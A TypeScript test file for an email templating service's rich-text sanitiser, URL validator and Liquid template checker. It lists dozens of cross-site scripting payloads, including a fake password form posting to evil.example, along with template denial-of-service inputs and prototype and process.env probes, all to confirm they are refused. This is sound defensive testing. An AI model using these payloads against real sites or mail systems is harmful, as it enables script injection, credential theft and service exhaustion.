import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { faultsOf } from '../../src/domain/email/check.ts'
import { compile } from '../../src/domain/email/compile.ts'
import { personalise } from '../../src/domain/email/personalise.ts'
import { cleanRichText } from '../../src/domain/email/rich-text.ts'
import { isAddress } from '../../src/domain/email/urls.ts'
import { sampleContext } from '../../src/domain/email/variables.ts'
import { aMessageOf, framing } from '../support/messages.ts'

const richText = (en: string) => ({ id: 'x', type: 'rich_text', data: { text: { en } } }) as const
const mostMs = 50

/** In tests the clock runs on while code does; in production it would not. A busy machine gets another chance. */
function timed<T>(work: () => T): T {
  const results = [1, 2, 3].map(() => {
    const start = performance.now()
    const result = work()
    return { result, ms: performance.now() - start }
  })
  expect(Math.min(...results.map(({ ms }) => ms))).toBeLessThan(mostMs)
  return (results[0] as { result: T }).result
}

/** Saves and sends as the service does: null when it was refused. */
function made(en: string): { html: string; text: string } | null {
  if (timed(() => faultsOf({ blocks: [richText(en)] })).length) return null
  const template = compile(aMessageOf(richText(en)), 'en', framing)
  return timed(() => personalise(template, sampleContext()))
}

// The first compilation starts the engine.
compile(aMessageOf(), 'en', framing)

/** What the frame alone holds: a message may not add to it. */
const acting = /<(script|iframe|object|embed|svg|math|form|input|button|style|link|meta|base|template|video|audio)\b/gi
const inFrame = compile(aMessageOf(richText('x')), 'en', framing).html.match(acting)?.length ?? 0

/** Each attribute of the markup, as a browser reads it. */
const handlers = /<[a-z][^>]*\son\w+\s*=/i
const schemes = /(href|src|action|background|style)\s*=\s*["']?\s*(javascript|vbscript|data|file|blob)\s*:/i

function expectHarmless(html: string): void {
  expect(html.match(acting)?.length ?? 0).toBeLessThanOrEqual(inFrame)
  expect(html).not.toMatch(handlers)
  expect(html.replaceAll(/&#x?[0-9a-f]+;|[\s\p{Cc}]/giu, '')).not.toMatch(schemes)
  expect(html).not.toMatch(/expression\(|url\(|-moz-binding/i)
}

describe('rich text', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>{{ customer.first_name }}</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://a.example/x.png" onerror="alert(1)">',
    '<img src="https://a.example/x.png"onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https://user:pass@evil.example/">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg onload=alert(1)><script>alert(1)</script>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<style>body{display:none}</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:9999px;color:red">x</p>',
    '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
    '<base href="https://evil.example"><link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<!-- --!><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo "<script>" ?><script>alert(1)</script>',
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    '<textarea></textarea><script>alert(1)</script>',
    '<title></title><script>alert(1)</script>',
    '<xmp><script>alert(1)</script></xmp>',
    '<template><script>alert(1)</script></template>',
    '<p title="><script>alert(1)</script>">x</p>',
    '</td></tr></table></div><script>alert(1)</script>',
    '</div></mj-text><mj-raw><script>alert(1)</script></mj-raw>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://a.example/" onclick="x" style="color:red" target="_self" ping="https://evil.example">x</a>',
    '{% comment %}{{ {% endcomment %}<script>alert(1)</script>{{ x }}',
    '{% raw %}<script>alert(1)</script>{% endraw %}',
    '{{ "<script>alert(1)</script>" }}',
    "{{ '<img src=x onerror=alert(1)>' }}",
    '{% assign x = "<script>alert(1)</script>" %}{{ x }}',
    '{% capture x %}<script>alert(1)</script>{% endcapture %}{{ x }}',
    '<{{ "script" }}>alert(1)</{{ "script" }}>',
    '<a {{ "onclick=alert(1)" }}>x</a>',
    '<a href="{{ "javascript:alert(1)" }}">x</a>',
    '<a href="{{ customer.first_name }}">x</a>',
    '<a href="java{{ "script" }}:alert(1)">x</a>',
    '<a href="{% if true %}javascript:alert(1){% endif %}">x</a>',
    '<a href="https://{{ customer.first_name }}/">x</a>',
    '<a href="https://a.example{{ customer.first_name }}">x</a>',
    '{% assign links = "x" %}<a href="{{ links.portal }}">x</a>',
    '{% for links in order.items %}<a href="{{ links.name }}">x</a>{% endfor %}',
    '{% capture links %}javascript:alert(1){% endcapture %}<a href="{{ links }}">x</a>',
    '&#123;&#123; "<script>alert(1)</script>" }}',
    '&#123;% raw %}<b>',
    '&#xE000;0&#xE001;<a href="&#xE000;0&#xE001;">x</a>{{ "javascript:alert(1)" }}',
    '<p {% if true %}onclick="alert(1)"{% endif %}>x</p>',
    '<p style="{{ "color:red" }};background:url(x)">x</p>',
  ])('%j comes out without anything that acts', (source) => {
    const result = made(source)
    if (result) expectHarmless(result.html)
  })

  it('comes out harmless and in balance, whatever goes in', () => {
    const parts = fc.constantFrom(
      '<p>',
      '</p>',
      '<b',
      '>',
      '<a href="',
      'https://a.example/',
      'javascript:',
      '"',
      "'",
      '<script>',
      '</script>',
      '<img src=',
      ' onerror=alert(1)',
      '<!--',
      '-->',
      '{{',
      '}}',
      '{% if true %}',
      '{% endif %}',
      '{% raw %}',
      '{% endraw %}',
      'customer.first_name',
      '<style>',
      '</style>',
      '&#',
      '106;',
      '<svg>',
      '</svg>',
      '<ul><li>',
      '/',
      '<![CDATA[',
      ']]>',
      '{% comment %}',
      '{% endcomment %}',
      '\0',
      '\n',
      'x',
      '&lt;',
      '|',
      ' raw ',
      '<table><tr><td>',
    )
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 30 }), (pieces) => {
        const source = pieces.join('')
        if (faultsOf({ blocks: [richText(source)] }).length) return
        const { html } = cleanRichText(source)
        expectHarmless(html)
        // What was cleaned is clean.
        expect(cleanRichText(html).html).toBe(html)
        expectHarmless(personalise({ subject: '', html, text: '', links: [] }, sampleContext()).html)
      }),
      { numRuns: 2000 },
    )
  })

  it('keeps what organisers write', () => {
    const source =
      '<h2 style="color: #1d4ed8; text-align: center">Hi</h2><p>A<br />B &amp; <em>C</em></p><img src="https://a.example/x.png" alt="X" width="20" />'
    expect(cleanRichText(source).html).toBe(source)
    expect(cleanRichText('<p>a{% if 1 < 2 and "x" != "<b>" %}<b>yes</b>{% endif %}</p>').html).toBe(
      '<p>a{% if 1 < 2 and "x" != "<b>" %}<b>yes</b>{% endif %}</p>',
    )
    expect(
      cleanRichText('<p>One</p>\n<p>Two <a href="https://a.example/?q={{ order.number }}">there</a></p>').text,
    ).toBe('One\n\nTwo there (https://a.example/?q={{ order.number }})')
  })
})

describe('an address', () => {
  it.each([
    'https://a.example',
    'http://a.example/?x={{ order.number }}',
    'mailto:a@b.example',
    'tel:+4520123456',
    '{{ links.portal }}',
    '{{links.unsubscribe}}',
    'https://a.example/#{{ order.number | url_encode }}',
  ])('may be %s', (url) => expect(isAddress(url)).toBe(true))

  it.each([
    '',
    'a.example',
    '/x',
    '//x.example',
    'javascript:1',
    'https://',
    'https://a b.example',
    '{{ order.number }}',
    '{{ links.portal | append: "x" }}',
    'x{{ links.portal }}',
    '{{ links.portal }}x',
    'https://{{ order.number }}',
    'https://a.example{% if true %}/x{% endif %}',
    'https://a.example/{% if true %}/x{% endif %}',
    'https://a.example/"onclick=',
    'ftp://a.example',
    '{{ links["portal"] }}',
    '{{',
  ])('may not be %j', (url) => expect(isAddress(url)).toBe(false))
})

const nested = (depth: number, inside: string) =>
  '{% for i in (1..50) %}'.repeat(depth) + inside + '{% endfor %}'.repeat(depth)

describe('Liquid', () => {
  it.each([
    ['three loops in each other', nested(3, 'x')],
    ['two long loops with much in them', nested(2, '{{ customer.first_name }}{{ order.number }}{{ order.total }}')],
    ['two long loops around long text', nested(2, 'x'.repeat(5000))],
    ['a long range', '{% for i in (1..1000000) %}x{% endfor %}'],
    ['a range of unknown length', '{% for i in (1..order.number) %}x{% endfor %}'],
    ['a loop over what a template made', '{% assign a = "1,2" | split: "," %}{% for i in a %}x{% endfor %}'],
    ['a loop over a text', '{% for i in customer.first_name %}x{% endfor %}'],
    ['a loop that hides a category', '{% for customer in order.items %}x{% endfor %}'],
    ['an include', '{% include "x" %}'],
    ['a render', '{% render "x" %}'],
    ['a layout', '{% layout "x" %}{% block a %}{% endblock %}'],
    ['a table row', '{% tablerow i in order.items %}x{% endtablerow %}'],
    ['a counter', '{% increment x %}'],
    ['many statements', '{% liquid\nassign x = 1\n%}'],
    ['an echo', '{% echo "<b>" %}'],
    ['the filter that lets markup through', '{{ "<b>" | raw }}'],
    ['a filter that runs expressions', '{{ order.items | where_exp: "x", "x.y" }}'],
    ['an unknown filter', '{{ "x" | no_such_filter }}'],
    ['an unknown tag', '{% no_such_tag %}'],
    ['an output that does not end', 'a {{ customer.first_name'],
    ['a tag that does not end', 'a {% if customer'],
    ['a block that does not end', '{% if customer.first_name %}x'],
    ['an end without a beginning', 'x{% endif %}'],
    ['doubling', `{% assign a = "xxxxxxxxxx" %}${'{% assign a = a | append: a %}'.repeat(30)}{{ a }}`],
    [
      'doubling by captures',
      `{% assign a = "xxxxxxxxxx" %}${'{% capture a %}{{ a }}{{ a }}{% endcapture %}'.repeat(30)}`,
    ],
    ['a date of a million characters', '{{ "now" | date: "%1000000Y" }}'],
    [
      'a replacement that grows',
      '{{ "aaaaaaaaaaaaaaaaaaaa" | replace: "a", "bbbbbbbbbbbbbbbbbbbb" | replace: "b", "cccccccccccccccccccc" | replace: "c", "dddddddddddddddddddd" }}',
    ],
    ['tags a hundred deep', '{% if true %}'.repeat(100) + '{% endif %}'.repeat(100)],
    ['too much of it', '{{ order.number }}'.repeat(1200)],
    ['conditions without end inside loops', nested(2, `{% if ${'a or '.repeat(100)}b %}x{% endif %}`)],
  ])('is refused with %s', (_, source) => {
    const errors = timed(() => faultsOf({ blocks: [richText(source)] }))
    expect(errors[0]?.code).toMatch(/^(invalid_template|template_too_large)$/)
    expect([errors[0]?.line, errors[0]?.column].every((place) => Number(place) >= 1)).toBe(true)
  })

  it.each([
    [
      'prototypes',
      '{{ customer.__proto__ }}{{ customer.constructor }}{{ customer.constructor.constructor }}{{ __proto__ }}{{ order.items.__proto__.constructor }}',
    ],
    [
      'own names of JavaScript',
      '{{ toString }}{{ customer.toString }}{{ customer["constructor"] }}{{ customer.hasOwnProperty }}',
    ],
    ['names of the platform', '{{ globalThis }}{{ process.env }}{{ env.DB }}{{ self }}{{ Math.PI }}'],
  ])('finds nothing under %s', (_, source) => {
    const result = made(`<p>a${source}b</p>`)
    expect(result?.html).toContain('<p>ab</p>')
  })

  it('takes loops, conditions and variables of its own', () => {
    const source =
      '{% assign n = 0 %}{% for item in order.items %}{% for i in (1..3) %}{% assign n = n | plus: 1 %}{% endfor %}{% endfor %}{% if n == 6 %}six{% endif %}{% case n %}{% when 6 %} sechs{% endcase %}{% unless n == 1 %} seks{% endunless %}'
    expect(made(source)?.text).toMatch(/^six sechs seks/)
  })

  it('says in which line and column it is wrong', () => {
    const [error] = faultsOf({ blocks: [richText('<p>one</p>\n<p>two {{ "x" | shout }}</p>')] })
    expect(error).toEqual({
      attr: 'blocks.0.data.text.en',
      pointer: '#/blocks/0/data/text/en',
      code: 'invalid_template',
      detail: 'There is no filter `shout` here.',
      line: 2,
      column: 8,
    })
  })

  it('stays text where it was written as text', () => {
    const result = made('<p>&#123;&#123; customer.first_name }} and {% raw %}{{ order.number }}{% endraw %}</p>')
    expect(result?.html).toContain('<p>&#123;&#123; customer.first_name }} and &#123;&#123; order.number }}</p>')
    expect(result?.text).toMatch(/^\{\{ customer\.first_name \}\} and \{\{ order\.number \}\}/)
  })
})
